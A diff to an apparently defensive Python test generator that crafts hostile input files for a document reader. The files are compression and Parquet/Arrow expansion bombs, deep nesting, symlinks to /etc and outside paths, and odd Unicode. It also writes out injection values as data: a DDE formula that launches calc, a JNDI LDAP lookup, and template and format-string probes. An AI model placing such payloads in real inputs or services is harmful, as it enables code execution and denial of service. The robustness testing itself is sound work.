@@ -23,7 +23,13 @@ import pyarrow.parquet as pq
 
 MIB = 1 << 20
 #: Settings under which the files are hostile; all else stays as it is by default.
-LIMITS = ("read.max_document_bytes=262144", "read.max_expansion=50", "read.on_duplicate_id=suffix", "alarms.accept=true", "run.workers=1")
+LIMITS = (
+    "read.max_document_bytes=262144",
+    "read.max_expansion=50",
+    "read.on_duplicate_id=suffix",
+    "alarms.accept=true",
+    "run.workers=1",
+)
 SOUND = "The harbour council met on Tuesday and spoke about the ferry for most of the evening. Nothing was decided."
 
 Make = Callable[[Path], None]
@@ -99,12 +105,12 @@ def bombs(_: random.Random) -> Iterator[Hostile]:
         yield Hostile("bombs", f"blank.jsonl.{suffix}", _bytes(blank), (1, 1), (1, 1), "times as large")
         line = packed(sound + b'{"text": "' + b"a" * size)
         yield Hostile("bombs", f"line.jsonl.{suffix}", _bytes(line), (1, 1), (1, 2), "times as large")
-        table = packed(b"id,text\n1," + SOUND.encode() + b"\n" + b"2,x\n" * (size // 4))
+        table = packed(b"id,text\n1," + SOUND.encode() + b"\n" + b"2,x%s\n" % (b"." * 196) * (size // 200))
         yield Hostile("bombs", f"rows.csv.{suffix}", _bytes(table), (1, 9 * MIB), (1, 1), "times as large")
-        yield _whole("bombs", f"array.json.{suffix}", packed(b"[" + b"0," * (size // 2) + b"0]"), "max_document_bytes")
+        yield _whole("bombs", f"array.json.{suffix}", packed(b"[" + b"0," * (size // 2) + b"0]"), "raise read.max_")
     yield _whole("bombs", "twice.txt.gz", pack["gz"](pack["gz"](bytes(3 * MIB))), "binary")
     yield Hostile("bombs", "members.jsonl.gz", _bytes(pack["gz"](sound) * 20), (20, 20), (0, 0))
-    yield Hostile("bombs", "scalars.json", _bytes(b"[" + b"0," * 100_000 + b"0]"), (0, 0), (1, 100_001), "not a JSON")
+    yield Hostile("bombs", "scalars.json", _bytes(b"[" + b"0," * 30_000 + b"0]"), (0, 0), (1, 30_001), "not a JSON")
 
 
 def deep(_: random.Random) -> Iterator[Hostile]:
@@ -116,8 +122,8 @@ def deep(_: random.Random) -> Iterator[Hostile]:
             if len(row) < MIB // 4:
                 yield Hostile("deep", f"{name}-{levels}.jsonl", _bytes(lines(row, {"text": SOUND})), (1, 1), (1, 1))
             yield Hostile("deep", f"{name}-{levels}.json", _bytes(row.encode()), (0, 0), (1, 1))
-    yield Hostile("deep", "open.jsonl", _bytes(b"[" * 500_000), (0, 0), (1, 1), "not valid JSON")
-    yield Hostile("deep", "open.json", _bytes(b"[" * 500_000), (0, 0), (1, 1))
+    yield Hostile("deep", "open.jsonl", _bytes(b"[" * 200_000), (0, 0), (1, 1), "not valid JSON")
+    yield Hostile("deep", "open.json", _bytes(b"[" * 200_000), (0, 0), (1, 1))
 
 
 def numbers(_: random.Random) -> Iterator[Hostile]:
@@ -180,7 +186,7 @@ def wide(_: random.Random) -> Iterator[Hostile]:
     yield Hostile("wide", "object.jsonl", _bytes(lines({"text": SOUND} | many)), (0, 0), (1, 1), "columns")
     yield Hostile("wide", "object.json", _bytes(json.dumps({"text": SOUND} | many).encode()), (0, 0), (1, 1), "columns")
     rows = [{"text": f"{SOUND} {i}", **{f"r{i}k{j}": j for j in range(10)}} for i in range(2_000)]
-    yield Hostile("wide", "growing.jsonl", _bytes(lines(*rows)), (1, 1_999), (1, 1_999), "columns")
+    yield Hostile("wide", "growing.jsonl", _bytes(lines(*rows)), (0, 1_999), (1, 1_999), "columns")
     nested = {f"a{i}": {f"b{j}": {f"c{k}": 1 for k in range(20)} for j in range(30)} for i in range(30)}
     yield Hostile("wide", "nested.jsonl", _bytes(lines({"text": SOUND, "nested": nested})), (0, 1), (0, 1))
     table = pa.table({"text": [SOUND]} | {f"c{i}": [1] for i in range(3_000)})
@@ -239,43 +245,41 @@ def columnar(draw: random.Random) -> Iterator[Hostile]:
 
 
 def _dictionary_bomb(path: Path) -> None:
-    """3,000 rows of 100 KB, one text: 300 MB from 10 KB."""
-    text = pa.array(["a" * 100_000]).dictionary_encode()
+    """3,000 rows of 30 KB, one text: 90 MB from 10 KB."""
+    text = pa.array(["a" * 30_000]).dictionary_encode()
     column = pa.DictionaryArray.from_arrays(pa.array([0] * 3_000, pa.int32()), text.dictionary)
     pq.write_table(pa.table({"text": column}), path, compression="zstd", dictionary_pagesize_limit=8 * MIB)
 
 
 def _arrow_bomb(path: Path) -> None:
-    column = pa.DictionaryArray.from_arrays(pa.array([0] * 3_000, pa.int32()), pa.array(["a" * 100_000]))
+    column = pa.DictionaryArray.from_arrays(pa.array([0] * 3_000, pa.int32()), pa.array(["a" * 30_000]))
     path.write_bytes(_ipc(pa.table({"text": column}), pa.ipc.IpcWriteOptions(compression="zstd")))
 
 
 def _view_bomb(path: Path) -> None:
     """3,000 views of one text."""
-    one = pa.array(["a" * 100_000], pa.string_view())
+    one = pa.array(["a" * 30_000], pa.string_view())
     _, views, data = one.buffers()
     many = pa.Array.from_buffers(pa.string_view(), 3_000, [None, pa.py_buffer(views.to_pybytes() * 3_000), data])
     path.write_bytes(_ipc(pa.table({"text": many})))
 
 
 def _run_bomb(path: Path) -> None:
-    column = pa.RunEndEncodedArray.from_arrays(pa.array([3_000], pa.int32()), pa.array(["a" * 100_000]))
+    column = pa.RunEndEncodedArray.from_arrays(pa.array([3_000], pa.int32()), pa.array(["a" * 30_000]))
     path.write_bytes(_ipc(pa.table({"text": column})))
 
 
 def _delta_bomb(path: Path) -> None:
-    """Texts of 100 KB that share all but their last letters: DELTA_BYTE_ARRAY writes only those."""
-    texts = ["a" * 100_000 + str(i) for i in range(1_000)]
-    pq.write_table(
-        pa.table({"text": texts}), path, use_dictionary=False, column_encoding={"text": "DELTA_BYTE_ARRAY"}
-    )
+    """Texts of 30 KB that share all but their last letters: DELTA_BYTE_ARRAY writes only those."""
+    texts = ["a" * 30_000 + str(i) for i in range(1_000)]
+    pq.write_table(pa.table({"text": texts}), path, use_dictionary=False, column_encoding={"text": "DELTA_BYTE_ARRAY"})
 
 
 def places(_: random.Random) -> Iterator[Hostile]:
     """Links, special files, and names that want to be something else."""
     yield Hostile("places", "outside.txt", _link("../../secret.txt"), (0, 0), (1, 1), "leaves")
     yield Hostile("places", "absolute.txt", _link("/etc/hostname"), (0, 0), (1, 1), "leaves")
-    yield Hostile("places", "outside", _link("/etc"), (0, 0), (1, 1), "leaves")
+    yield Hostile("places", "outside", _link("/etc"), (0, 0), (1, 1), "is a link to a folder")
     yield Hostile("places", "loop.txt", _link("loop.txt"), (0, 0), (1, 1), "not a regular file")
     yield Hostile("places", "up", _link(".."), (0, 0), (1, 1), "is a link to a folder")
     yield Hostile("places", "dangling.txt", _link("nowhere.txt"), (0, 0), (1, 1), "not a regular file")
@@ -334,7 +338,7 @@ def names(_: random.Random) -> Iterator[Hostile]:
         "a\0b",
         "a\nb",
         "\u202eevil",
-        "=HYPERLINK(\"http://a.example\")",
+        '=HYPERLINK("http://a.example")',
         "+1+cmd|' /C calc'!A0",
         "@SUM(1+1)",
         "-2+3",
@@ -344,9 +348,11 @@ def names(_: random.Random) -> Iterator[Hostile]:
         "${jndi:ldap://a.example/x}",
         "{{7*7}}",
         "%s%n%x",
-        "x" * 100_000,
+        "x" * 10_000,
     )
-    rows = [{"id": f"{v}", "title": v, "site": v, "url": v, "date": v, "text": f"{SOUND} {i}"} for i, v in enumerate(values)]
+    rows = [
+        {"id": f"{v}", "title": v, "site": v, "url": v, "date": v, "text": f"{SOUND} {i}"} for i, v in enumerate(values)
+    ]
     yield _kept("names", "values.jsonl", lines(*rows), len(rows))
     yield _kept("names", "formulas.csv", b"id,text\n" + b"".join(b"f%d,=1+%d\n" % (i, i) for i in range(5)), 5)
 
@@ -402,7 +408,10 @@ def slow(_: random.Random) -> Iterator[Hostile]:
 def alike(draw: random.Random) -> Iterator[Hostile]:
     """Many texts that share their bands: one opening in 3,000 texts, copies that differ in one word."""
     shared = " ".join(draw.choice("ferry harbour tide rain pier council boat rope".split()) for _ in range(80))
-    rows = [{"id": f"alike-{i}", "text": f"{shared} {i} {draw.random()} {draw.random()} {draw.random()}"} for i in range(3_000)]
+    rows = [
+        {"id": f"alike-{i}", "text": f"{shared} {i} {draw.random()} {draw.random()} {draw.random()}"}
+        for i in range(3_000)
+    ]
     yield _kept("alike", "opening.jsonl", lines(*rows), len(rows))
     same = [{"id": f"same-{i}", "text": "ferry " * 300} for i in range(500)]
     yield _kept("alike", "copies.jsonl", lines(*same), len(same))
@@ -427,7 +436,7 @@ def tricks(draw: random.Random) -> Iterator[Hostile]:
         "boms": "\ufeff" * 1_000 + SOUND,
         "expanding": "\ufdfa" * 20_000,
         "casing": "İıſßŉǰΐ" * 5_000,
-        "lines": "\u2028\u2029\x85\x0b\x0c" * 10_000 + SOUND,
+        "lines": "\u2028\u2029\x85\x0b\x0c" * 5_000 + SOUND,
         "one": "\u0301",
         "blank": "\u3164" * 1_000,
         "family": "👩‍👩‍👧‍👦" * 2_000,
@@ -435,11 +444,20 @@ def tricks(draw: random.Random) -> Iterator[Hostile]:
     for name, text in texts.items():
         yield Hostile("tricks", f"{name}.txt", _bytes(text.encode()), (0, 1), (0, 1))
         yield _kept("tricks", f"{name}.jsonl", lines({"text": text, "title": text[:500]}))
-    for name, text in {"lone": "\\ud800", "swapped": "\\udc00\\ud800", "pair": "\\ud83d\\ude00", "nul": "\\u0000"}.items():
+    for name, text in {
+        "lone": "\\ud800",
+        "swapped": "\\udc00\\ud800",
+        "pair": "\\ud83d\\ude00",
+        "nul": "\\u0000",
+    }.items():
         yield _kept("tricks", f"escaped-{name}.jsonl", lines('{"text": "%s %s", "id%s": 1}' % (SOUND, text, text)))
     yield Hostile("tricks", "raw-surrogates.txt", _bytes(b"\xed\xa0\x80 " + SOUND.encode()), (0, 1), (0, 1))
     yield Hostile("tricks", "overlong.txt", _bytes(b"\xc0\xaf\xe0\x80\xaf " + SOUND.encode()), (0, 1), (0, 1))
-    for name, mark in {"odd": b"\xff\xfea", "wide": b"\xff\xfe\0\0\xff\xff\xff\xff", "swapped": b"\xfe\xff\xff\xfe"}.items():
+    for name, mark in {
+        "odd": b"\xff\xfea",
+        "wide": b"\xff\xfe\0\0\xff\xff\xff\xff",
+        "swapped": b"\xfe\xff\xff\xfe",
+    }.items():
         yield Hostile("tricks", f"mark-{name}.txt", _bytes(mark), (0, 1), (0, 1))
         yield Hostile("tricks", f"mark-{name}.jsonl", _bytes(mark), (0, 1), (0, 1))
     for number in range(24):
